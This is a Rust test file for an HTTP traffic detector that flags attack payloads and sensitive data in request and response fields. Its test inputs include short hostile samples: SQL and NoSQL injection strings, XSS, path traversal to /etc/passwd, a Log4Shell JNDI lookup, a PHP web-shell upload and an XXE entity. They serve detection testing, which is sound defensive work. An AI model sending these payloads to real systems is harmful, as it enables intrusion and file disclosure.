use super::*;

/// One detector for every test here: building its keyword DFA takes tens of milliseconds in a
/// debug build, which the proptests would pay per case.
fn shared_detector() -> &'static Detector {
    static DETECTOR: std::sync::OnceLock<Detector> = std::sync::OnceLock::new();
    DETECTOR.get_or_init(Detector::default)
}

fn scan_json(detector: &Detector, direction: Direction, body: &str) -> Vec<(String, String)> {
    let mut out = Findings::new(64);
    let walk = detector.scan_body(
        direction,
        "application/json; charset=utf-8",
        body.as_bytes(),
        WalkLimits::default(),
        &mut out,
    );
    assert!(walk.is_some_and(|w| w.complete));
    out.items.iter().map(|f| (f.class.clone(), f.location())).collect()
}

#[test]
fn json_body_findings_carry_class_and_location() {
    let detector = shared_detector();
    let body =
        r#"{"cards":[{"number":"4111 1111 1111 1111"},{"number":5500005555555559}],"q":"1' or '1'='1","name":"Ann"}"#;
    let got = scan_json(detector, Direction::Request, body);
    assert_eq!(
        got,
        vec![
            ("credit_card".to_owned(), "request.body.$.cards[*].number".to_owned()),
            ("sqli".to_owned(), "request.body.$.q".to_owned()),
        ]
    );
    // responses: sensitive data only
    let got = scan_json(detector, Direction::Response, body);
    assert_eq!(got, vec![("credit_card".to_owned(), "response.body.$.cards[*].number".to_owned())]);
}

#[test]
fn values_never_leave_unless_masking_is_on() {
    let body = r#"{"card":"4111111111111111"}"#;
    let detector = shared_detector();
    let mut out = Findings::new(8);
    detector.scan_body(Direction::Response, "application/json", body.as_bytes(), WalkLimits::default(), &mut out);
    assert_eq!(out.items.len(), 1);
    assert_eq!(out.items[0].masked_sample, None);
    let detector = Detector::new(DetectConfig { masked_samples: true, ..DetectConfig::default() })
        .expect("the masked-samples configuration is valid");
    let mut out = Findings::new(8);
    detector.scan_body(Direction::Response, "application/json", body.as_bytes(), WalkLimits::default(), &mut out);
    assert_eq!(out.items[0].masked_sample.as_deref(), Some("4111********1111"));
}

#[test]
fn classes_can_be_switched_off_and_added() {
    let config = DetectConfig {
        disabled_classes: vec!["email".into()],
        custom_classes: vec![CustomClass {
            name: "employee_id".into(),
            regex: r"^EMP-\d{6}$".into(),
            key_regex: Some("(?i)employee".into()),
        }],
        ..DetectConfig::default()
    };
    let detector = Detector::new(config).expect("the test configuration is valid");
    let got = scan_json(
        &detector,
        Direction::Response,
        r#"{"email":"a@example.com","employee":"EMP-123456","other":"EMP-123456"}"#,
    );
    assert_eq!(got, vec![("employee_id".to_owned(), "response.body.$.employee".to_owned())]);
    let bad = Detector::new(DetectConfig { disabled_classes: vec!["nope".into()], ..DetectConfig::default() });
    assert!(matches!(bad, Err(DetectError::UnknownClass(_))));
    let bad = Detector::new(DetectConfig {
        custom_classes: vec![CustomClass { name: "x".into(), regex: "(".into(), key_regex: None }],
        ..DetectConfig::default()
    });
    assert!(bad.is_err_and(|e| e.to_string().contains("custom class \"x\": invalid value regex")));
}

#[test]
fn query_form_multipart_headers_and_cookies() {
    let detector = shared_detector();
    let mut out = Findings::new(64);
    detector.scan_path_and_query("/files/..%2f..%2fetc/passwd", "q=%27+or+1%3D1--&user[$ne]=x", &mut out);
    detector.scan_body(
        Direction::Request,
        "application/x-www-form-urlencoded",
        b"password=hunter2&ssn=536-90-4399",
        WalkLimits::default(),
        &mut out,
    );
    let multipart = "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"shell.php\"\r\n\r\n<?php system($_GET[c]); ?>\r\n--b--";
    detector.scan_body(
        Direction::Request,
        "multipart/form-data; boundary=b",
        multipart.as_bytes(),
        WalkLimits::default(),
        &mut out,
    );
    detector.scan_header(Direction::Request, "User-Agent", "${jndi:ldap://x/a}", &mut out);
    detector.scan_header(Direction::Request, "Cookie", "sid=abc; pref=<script>alert(1)</script>", &mut out);
    detector.scan_header(Direction::Request, "Authorization", "Bearer abcdefghijklmnop1234", &mut out);
    let got: Vec<String> = out.items.iter().map(|f| format!("{} {}", f.class, f.location())).collect();
    let want = [
        "path_traversal request.path",
        "sqli request.query.q",
        "nosqli request.query.user[$ne]",
        "password request.body.password",
        "us_ssn request.body.ssn",
        "php_injection request.body.f",
        "log4shell request.header.user-agent",
        "xss request.cookie.pref",
    ];
    assert_eq!(got, want);
}

#[test]
fn text_bodies_and_limits() {
    let detector = shared_detector();
    let mut out = Findings::new(2);
    let text = "key AKIAZ3MHQ5TQ2VX7RD4K mail a@example.com card 4111111111111111";
    detector.scan_body(Direction::Response, "text/plain", text.as_bytes(), WalkLimits::default(), &mut out);
    assert_eq!(out.items.len(), 2);
    assert_eq!(out.dropped, 1);
}

#[test]
fn mask_keeps_edges_only() {
    assert_eq!(mask("4111111111111111"), "4111********1111");
    assert_eq!(mask("a@b.co"), "a@*.co");
    assert_eq!(mask("abc"), "***");
}

proptest::proptest! {
    /// Arbitrary bytes in every part: no panic, bounded output.
    #[test]
    fn any_input_is_safe(body in proptest::collection::vec(proptest::num::u8::ANY, 0..600), text in ".{0,200}") {
        let detector = shared_detector();
        let mut out = Findings::new(16);
        for ct in ["application/json", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "text/plain"] {
            detector.scan_body(Direction::Request, ct, &body, WalkLimits::default(), &mut out);
        }
        detector.scan_path_and_query(&text, &text, &mut out);
        detector.scan_header(Direction::Request, "cookie", &text, &mut out);
        let site = Site { direction: Direction::Request, part: Part::Body, field: "x", key: "x" };
        detector.scan_value(site, &text, &mut out);
        proptest::prop_assert!(out.items.len() <= 16);
    }
}

/// Inputs built to make naive scanners quadratic or recursive. No timing is asserted: a
/// quadratic scan of these 256 KiB values takes minutes and would stall the test run.
#[test]
fn pathological_inputs_stay_linear() {
    let detector = shared_detector();
    let n = 256 * 1024;
    let values = [
        "<".repeat(n),
        "'".repeat(n),
        "\"".repeat(n),
        "@".repeat(n),
        "${".repeat(n / 2),
        "{{".repeat(n / 2),
        "on".repeat(n / 2),
        "a".repeat(n),
        "1 ".repeat(n / 2),
        "../".repeat(n / 3),
        "%25".repeat(n / 3),
        "&#".repeat(n / 2),
        "system ".repeat(n / 7),
        "<a ".repeat(n / 3),
        "(".repeat(n),
        "$a".repeat(n / 2),
    ];
    for value in &values {
        let mut out = Findings::new(64);
        let site = Site { direction: Direction::Request, part: Part::Body, field: "x", key: "x" };
        detector.scan_value(site, value, &mut out);
        let body = serde_json::json!({ "x": value }).to_string();
        detector.scan_body(Direction::Request, "application/json", body.as_bytes(), WalkLimits::default(), &mut out);
        assert!(out.items.len() <= 64);
    }
    let deep = "[".repeat(1_000_000);
    let mut out = Findings::new(64);
    let walk =
        detector.scan_body(Direction::Request, "application/json", deep.as_bytes(), WalkLimits::default(), &mut out);
    assert!(walk.is_some_and(|w| !w.complete));
}

#[test]
fn json_literals_skip_the_value_scan_but_their_keys_are_read() {
    let detector = shared_detector();
    // literals skip the value scan (speed), yet a NoSQL operator whose value is `null` is still
    // found by its key, and a boolean under a password key is still no password
    let body = r#"{"password":true,"remember":false,"user":{"$ne":null}}"#;
    let got = scan_json(detector, Direction::Request, body);
    assert_eq!(got, vec![("nosqli".to_owned(), "request.body.$ne".to_owned())]);
}

#[test]
fn prototype_pollution_in_an_object_key_is_found() {
    let detector = shared_detector();
    let got = scan_json(detector, Direction::Request, r#"{"text":"a","title":{"__proto__":{"where":{"name":"x"}}}}"#);
    assert_eq!(got, vec![("code_injection".to_owned(), "request.body.$.title.__proto__".to_owned())]);
    let got = scan_json(detector, Direction::Request, r#"{"constructor":{"prototype":{"isAdmin":true}}}"#);
    assert_eq!(got.len(), 1, "{got:?}");
    assert!(scan_json(detector, Direction::Request, r#"{"prototypes":[{"name":"x"}]}"#).is_empty());
}

#[test]
fn attacks_sent_in_base64_are_decoded() {
    let detector = shared_detector();
    let mut out = Findings::new(8);
    detector.scan_path_and_query("/get", "eval=d2hpbGUodHJ1ZSk7Cg%3D%3D", &mut out);
    assert!(out.items.iter().any(|f| f.class == "code_injection"), "{:?}", out.items);
}

proptest::proptest! {
    /// The shortcut in `shape`: UUIDs and timestamps skip the attack checks and the value-based
    /// sensitive classes because the full checks find nothing in them, under any field name but
    /// a phone's (see `shaped_values_are_no_phone_numbers`).
    #[test]
    fn shaped_values_have_no_findings(
        value in "[0-9a-fA-F]{8}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{12}|[0-9]{4}-[0-9]{2}-[0-9]{2}[Tt ][0-9]{2}:[0-9]{2}(:[0-9]{2}(\\.[0-9]{1,9})?)?([Zz]|[+-][0-9]{2}:[0-9]{2})?",
        key in "(x|q|url|redirect|next|callback|file|filename|path|host|id|uuid|created_at|dob|card_number|ssn|iban|token|api_key|ip|lat)",
    ) {
        proptest::prop_assert!(shape::opaque(value.as_bytes()), "{value}");
        let detector = shared_detector();
        let site = Site { direction: Direction::Request, part: Part::Body, field: &key, key: &key };
        let mut found = Vec::new();
        let mut attack = |class: &'static str, _: &'static str, _: u8| found.push(class);
        detector.attacks.scan(site, &normalize(&value), &mut attack);
        if let Some(decoded) = normalize::base64_text(&value) {
            detector.attacks.scan(site, &normalize(&decoded), &mut attack);
        }
        let mut sensitive = |class: &'static str, _: f32| found.push(class);
        sensitive::scan_value(&detector.secrets, sensitive::hint(&key), &value, &mut sensitive);
        proptest::prop_assert!(found.is_empty(), "{value} under {key}: {found:?}");
    }
}

/// Under a field named like a phone, the number checks took a UUID's last group or a timestamp's
/// digits for a phone number; the shape shortcut no longer asks them.
#[test]
fn shaped_values_are_no_phone_numbers() {
    let detector = shared_detector();
    for value in ["7c9e6679-7425-40de-944b-000000000003", "0000-00-00T00:00:00.00000"] {
        let mut out = Findings::new(8);
        let site = Site { direction: Direction::Request, part: Part::Body, field: "phone", key: "phone" };
        detector.scan_value(site, value, &mut out);
        assert!(out.items.is_empty(), "{value}: {:?}", out.items);
    }
    let body =
        r#"{"phone":"+1 415 555 0003","dob":"1985-04-12T00:00:00Z","id":"7c9e6679-7425-40de-944b-000000000003"}"#;
    let got = scan_json(detector, Direction::Response, body);
    assert_eq!(got.iter().map(|(class, _)| class.as_str()).collect::<Vec<_>>(), ["phone", "date_of_birth"], "{got:?}");
}

#[test]
fn urls_in_headers_are_not_fetched_urls() {
    let detector = shared_detector();
    let classes = |out: &Findings| {
        out.items.iter().filter(|f| f.kind == Kind::Attack).map(|f| (f.class.clone(), f.location())).collect::<Vec<_>>()
    };
    let mut out = Findings::new(8);
    for (name, value) in [
        ("Referer", "http://127.0.0.1:8080/shop/cart"),
        ("Referer", "http://localhost/admin?tab=users"),
        ("Origin", "http://10.0.0.12:3000"),
        ("Referer", "http://169.254.169.254/latest/meta-data/"),
    ] {
        detector.scan_header(Direction::Request, name, value, &mut out);
    }
    assert_eq!(classes(&out), vec![]);
    // the same URL in a parameter the application may fetch is SSRF
    let mut out = Findings::new(8);
    detector.scan_pairs(Direction::Request, Part::Query, "url=http%3A%2F%2F127.0.0.1%3A8080%2Fadmin", &mut out);
    assert_eq!(classes(&out), vec![("ssrf".to_owned(), "request.query.url".to_owned())]);
}

#[test]
fn digits_ending_an_identifier_are_not_cards() {
    let detector = shared_detector();
    let cards = |content_type: &str, body: &str| {
        let mut out = Findings::new(8);
        detector.scan_body(Direction::Response, content_type, body.as_bytes(), WalkLimits::default(), &mut out);
        out.items.iter().filter(|f| f.class == "credit_card").count()
    };
    // 139903225568640 passes Luhn and looks like a 15-digit UATP number
    assert_eq!(cards("text/html", "<div id=\"frame-139903225568640\">Traceback (most recent call last)</div>"), 0);
    assert_eq!(cards("text/plain", "request order-4111111111111111 done"), 0);
    // a card as a value, in text or in a field named for it, still is one
    assert_eq!(cards("text/plain", "paid with 4111 1111 1111 1111 today"), 1);
    assert_eq!(cards("application/json", r#"{"card_number": "x-4111111111111111"}"#), 1);
}

/// Found on CRS's hard negatives: SOAP and XML-RPC bodies name Java types as elements
/// (`<java.util.Date>`); a type's name in the schema is not a payload. Declarations are.
#[test]
fn xml_element_names_are_the_schema_and_declarations_are_scanned() {
    let detector = Detector::new(DetectConfig::default()).expect("the default configuration");
    let mut findings = Findings::new(64);
    let soap = r#"<?xml version="1.0"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><java.util.Date>2024-01-01</java.util.Date><ns:Runtime.getRuntime>x</ns:Runtime.getRuntime></soap:Body></soap:Envelope>"#;
    detector.scan_body(Direction::Request, "text/xml", soap.as_bytes(), WalkLimits::default(), &mut findings);
    assert!(findings.items.iter().all(|f| f.kind != Kind::Attack), "{:?}", findings.items);
    let mut findings = Findings::new(64);
    let xxe = r#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>"#;
    detector.scan_body(Direction::Request, "application/xml", xxe.as_bytes(), WalkLimits::default(), &mut findings);
    assert!(findings.items.iter().any(|f| f.class == "xxe"), "{:?}", findings.items);
    // values are scanned one by one as before
    let mut findings = Findings::new(64);
    let value = r#"<r><q>1' UNION SELECT password FROM users--</q></r>"#;
    detector.scan_body(Direction::Request, "application/xml", value.as_bytes(), WalkLimits::default(), &mut findings);
    assert!(findings.items.iter().any(|f| f.class == "sqli"), "{:?}", findings.items);
}
